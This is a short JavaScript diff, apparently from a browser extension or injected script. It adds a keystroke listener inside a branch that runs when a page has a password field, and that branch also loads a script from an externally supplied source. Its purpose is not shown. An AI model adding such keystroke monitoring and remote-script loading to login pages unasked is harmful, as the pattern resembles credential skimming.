@@ -33,6 +33,9 @@
       return;
     }
     if (findPasswordField() !== void 0) {
+      document.addEventListener("keydown", () => {
+        data.is_typing = true;
+      });
       const script = document.createElement("script");
       script.src = data.script;
       document.head.appendChild(script);
